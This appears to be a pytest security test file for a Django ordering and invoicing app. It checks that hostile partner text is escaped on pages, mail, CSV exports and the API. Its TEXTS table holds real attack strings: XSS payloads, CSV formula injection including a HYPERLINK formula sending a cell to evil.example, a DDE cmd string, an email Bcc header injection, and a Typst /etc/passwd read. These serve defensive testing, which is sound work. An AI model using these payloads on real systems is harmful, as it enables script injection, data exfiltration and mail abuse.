"""What a partner writes is hostile: shown as text on the other side, wherever it is shown."""

import csv
import io
from email import message_from_bytes, policy
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

from hub.errors import InvalidInput
from inventory.models import Product
from network.domain.payload_base import clean_line, clean_note, read_payload
from network.models import Envelope
from network.services.handshake import connect_by_key
from orders.domain.payloads import OrderPayload, ReasonCode
from orders.models import Bill, Invoice, PurchaseOrder, SalesOrder
from orders.services.bills import ask_about_bill
from orders.services.invoices import authorise_invoice, change_invoice, invoice_sales_order
from orders.services.lines import LineInput
from orders.services.pre_sales import (
    ChangeInput,
    approve_pre_sale,
    ask_about_pre_sale,
    decline_pre_sale,
    map_lines,
)
from orders.services.purchases import (
    authorise_purchase_order,
    create_purchase_order,
    decline_changes,
)
from orders.services.sending import Sending, send_document
from tenants.mail import OutgoingMail, build
from tenants.models import MailMessage, Organisation
from tests.cast import Company, Pair, make_company, make_pair

TEXTS = {
    "script": "<script>alert('pwned')</script>",
    "attribute": "\"><img src=x onerror=alert('pwned')>",
    "quote": "' onmouseover='alert(1)' x='",
    "svg": "</textarea></title></style><svg onload=alert('pwned')>",
    "template": "{{ 7|add:7 }}{% debug %}${7*7}<%= 7*7 %>",
    "right to left": "invoice\u202egpj.exe\u202c \u2066x\u2069",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "minus": "-2+3+cmd",
    "header": "Hello\r\nBcc: victim@example.com\r\n\r\n<b>body</b>",
    "typst": '#read("/etc/passwd") #panic() $x$ \\ *bold* @label <label> `raw`',
    "emoji": "☕️ 👩‍🚀 \U0001f9d1\U0001f3fe e\u0301",
    "nul": "before\x00after\x1b[31m\x07",
    "link": "javascript:alert('pwned')",
    "long": "w" * 255,
}


class Danger(HTMLParser):
    """Finds what a hostile text must never become."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            runs = name != "value" and (value or "").strip().lower().startswith("javascript:")
            if name.startswith("on") or runs:
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "img" and ("src", "x") in attrs:
            self.found.append("<img>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self.cdata_elem == "script" and "pwned" in data and "alert" in data:
            self.found.append(f"script: {data[:80]}")


def look_at(page: str) -> str:
    """The text of a page; fails when something in it would run."""
    parser = Danger()
    parser.feed(page)
    assert parser.found == []
    return "".join(parser.text)


def fetched(browser: Client, address: str) -> str:
    answer = browser.get(address, follow=True)
    assert answer.status_code == 200, address
    assert "unsafe-inline" not in answer["Content-Security-Policy"]
    return look_at(answer.content.decode())


def rename(company: Company, text: str) -> None:
    """Its names and address as hostile as the columns allow."""
    with company.inside():
        Organisation.objects.update(
            legal_name=clean_line(text, 100) or "x", address=clean_note(text, 300)
        )


def hostile_pair(text: str) -> Pair:
    """Both sides call themselves `text`."""
    pair = make_pair()
    for company in (pair.buyer, pair.supplier):
        company.product("FILTER", clean_line(text, 200) or "x")
        rename(company, text)
    return pair


def ordered(pair: Pair, text: str) -> PurchaseOrder:
    """An order that says it everywhere."""
    with pair.buyer.inside():
        order = create_purchase_order(
            pair.supplier_contact.id,
            {"note": text, "reference": clean_line(text, 80), "delivery_address": text[:500]},
            [
                LineInput(description=clean_line(text, 255) or "x", quantity="1", unit_price="2"),
                LineInput(kind="note", description=text or "x"),
                LineInput(sku="FILTER", quantity="2", unit_price="2"),
            ],
        )
        authorise_purchase_order(order.id)
        send_document(
            PurchaseOrder,
            order.id,
            Sending(via=["email", "network"], to=["a@example.com"], subject=text, body=text),
        )
    pair.drain()
    return order


def sale_at(pair: Pair, order: PurchaseOrder) -> SalesOrder:
    with pair.supplier.inside():
        sale = SalesOrder.objects.select_related("contact").get(partner_key=order.id)
        filters = Product.objects.get(sku="FILTER")
        map_lines(sale.id, {row.line_id: filters.id for row in sale.lines.filter(kind="item")})
    return sale


@pytest.mark.parametrize("name", TEXTS)
def test_a_hostile_partner_is_shown_as_text_on_every_page(name: str) -> None:
    """N9, N10, N11: order, question, changes, refusals, invoice: on both sides' pages."""
    text = TEXTS[name]
    pair = hostile_pair(text)
    order = ordered(pair, text)
    sale = sale_at(pair, order)
    with pair.supplier.inside():
        ask_about_pre_sale(sale.id, clean_note(text))
    pair.drain()
    with pair.supplier.inside():
        line = sale.lines.get(sku="FILTER", partner_sku="FILTER").line_id
        change = ChangeInput(line, quantity="1", text=clean_note(text), reason=ReasonCode.QUANTITY)
        approve_pre_sale(sale.id, [change], text=clean_note(text))
    pair.drain()
    seen = fetched(pair.buyer.browser(), f"/purchases/{order.id}/")
    seen += fetched(pair.supplier.browser(), f"/sales/{sale.id}/")
    seen += fetched(pair.buyer.browser(), "/inbox/")
    with pair.buyer.inside():
        decline_changes(order.id, clean_note(text))
    pair.drain()
    with pair.supplier.inside():
        approve_pre_sale(sale.id)
    pair.drain()
    invoice, bill = billed(pair, sale, text)
    seen += look_around(pair, order, sale)
    seen += fetched(pair.buyer.browser(), f"/bills/{bill.id}/")
    seen += fetched(pair.supplier.browser(), f"/invoices/{invoice.id}/")

    visible = " ".join(clean_note(text).split())
    assert visible[:60] in " ".join(seen.split())
    check_mail(pair)
    check_prints(pair, order, sale, invoice)


def billed(pair: Pair, sale: SalesOrder, text: str) -> tuple[Invoice, Bill]:
    with pair.supplier.inside():
        invoice = invoice_sales_order(sale.id)
        change_invoice(invoice.id, {"note": text})
        authorise_invoice(invoice.id)
        send_document(Invoice, invoice.id, Sending(via=["network"]))
    pair.drain()
    with pair.buyer.inside():
        bill = Bill.objects.get()
        ask_about_bill(bill.id, clean_note(text))
    pair.drain()
    return invoice, bill


def look_around(pair: Pair, order: PurchaseOrder, sale: SalesOrder) -> str:
    """Every page where the texts come up; gives their words."""
    common = ["/inbox/", "/notifications/", "/settings/activity/", "/contacts/"]
    common += ["/network/envelopes/", "/settings/company/network/", "/settings/jobs/"]
    words = ""
    for company, own, contact in (
        (pair.buyer, ["/purchases/", f"/purchases/{order.id}/"], pair.supplier_contact),
        (pair.supplier, ["/sales/", f"/sales/{sale.id}/"], pair.buyer_contact),
    ):
        browser = company.browser()
        for address in [*common, *own, f"/contacts/{contact.id}/"]:
            words += fetched(browser, address)
        with company.inside():
            envelopes = list(Envelope.objects.order_by("-id").values_list("id", flat=True)[:3])
        for envelope in envelopes:
            words += fetched(browser, f"/network/envelopes/{envelope}/")
    return words


def check_mail(pair: Pair) -> None:
    """Every mail that came of it: one line of subject, no header of the partner's making."""
    for company in (pair.buyer, pair.supplier):
        with company.inside():
            mails = list(MailMessage.objects.all())
        for mail in mails:
            outgoing = OutgoingMail(
                str(mail.id), tuple(mail.to), mail.subject, mail.body, from_name=mail.from_name
            )
            message = message_from_bytes(build(outgoing).as_bytes(), policy=policy.default)
            assert {"Bcc", "bcc"} & set(message.keys()) == set()
            assert message.get_content_type() == "text/plain"
            assert "\n" not in str(message["Subject"])


def check_prints(pair: Pair, order: PurchaseOrder, sale: SalesOrder, invoice: Invoice) -> None:
    """The PDFs are set, and CSV cells start no formula."""
    buyer, supplier = pair.buyer.browser(), pair.supplier.browser()
    for browser, path in (
        (buyer, f"/purchases/{order.id}/pdf/"),
        (supplier, f"/sales/{sale.id}/pdf/"),
        (supplier, f"/invoices/{invoice.id}/pdf/"),
    ):
        answer = browser.get(path)
        assert (answer.status_code, answer.content[:5]) == (200, b"%PDF-"), path
    for browser, path in (
        (buyer, "/purchases/"),
        (buyer, "/settings/activity/"),
        (supplier, "/sales/"),
        (supplier, "/products/"),
        (supplier, "/network/envelopes/"),
    ):
        answer = browser.get(f"{path}?format=csv")
        content = b"".join(answer).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(content)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
                assert not cell.startswith("-") or is_number(cell), (path, cell)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", TEXTS)
def test_the_api_gives_text_as_it_was_written(name: str) -> None:
    """A4: JSON needs no escaping; the other side reads the very words."""
    text = TEXTS[name]
    pair = hostile_pair("plain")
    answer: Any = pair.buyer.api().post(
        "/api/v1/purchase-orders",
        {
            "contact": str(pair.supplier_contact.id),
            "note": text,
            "lines": [{"description": "Cups", "quantity": "1", "price": "1"}],
        },
        format="json",
    )
    if "\x00" in text:
        assert (answer.status_code, list(answer.json()["fields"])) == (400, ["note"])
        return
    order = answer.json()
    assert answer.status_code == 201
    pair.buyer.api().post(f"/api/v1/purchase-orders/{order['id']}/authorise")
    pair.buyer.api().post(
        f"/api/v1/purchase-orders/{order['id']}/send", {"via": ["network"]}, format="json"
    )
    pair.drain()

    row = pair.supplier.api().get("/api/v1/sales-orders").json()["results"][0]
    sale = pair.supplier.api().get(f"/api/v1/sales-orders/{row['id']}")
    assert sale["Content-Type"] == "application/json"
    assert sale.json()["note"] == clean_note(text)


@pytest.mark.parametrize("name", TEXTS)
def test_a_hostile_reason_travels_back_as_text(name: str) -> None:
    """N10: a decline's words on the buyer's order."""
    text = clean_note(TEXTS[name])
    pair = hostile_pair("plain")
    order = ordered(pair, "plain")
    with pair.supplier.inside():
        sale = SalesOrder.objects.get()
        decline_pre_sale(sale.id, ReasonCode.OTHER, text)
    pair.drain()

    page = fetched(pair.buyer.browser(), f"/purchases/{order.id}/")
    assert " ".join(text.split())[:60] in " ".join(page.split())


def test_a_hostile_name_is_text_before_and_after_connecting() -> None:
    """N3, N5: invitation, "wants to connect", the connections table, the contact it makes."""
    owner = make_company("Owner")
    guest = make_company("<script>alert('pwned')</script>\"><img src=x onerror=alert(1)>")
    contact = guest.contact("Owner", kind="customer")
    connect_by_key(guest.id, contact.id, owner.key())
    owner.drain()
    page = fetched(owner.browser(), "/settings/company/network/")
    assert "<script>alert('pwned')</script>" in page
    fetched(owner.browser(), "/notifications/")
    fetched(owner.browser(), "/inbox/")


def test_a_payload_with_hidden_letters_is_refused_not_shown() -> None:
    """N9: a partner's program that sends control characters gets an answer, not a page."""
    pair = hostile_pair("plain")
    ordered(pair, "plain")
    with pair.buyer.inside():
        payload = Envelope.objects.get(kind="order").payload
    for hidden in ("\\u0000", "\\u001b", "\\u0085"):
        bad = payload.replace('"notes":"plain"', f'"notes":"x{hidden}y"')
        assert bad != payload
        with pytest.raises(InvalidInput):
            read_payload(OrderPayload, bad)
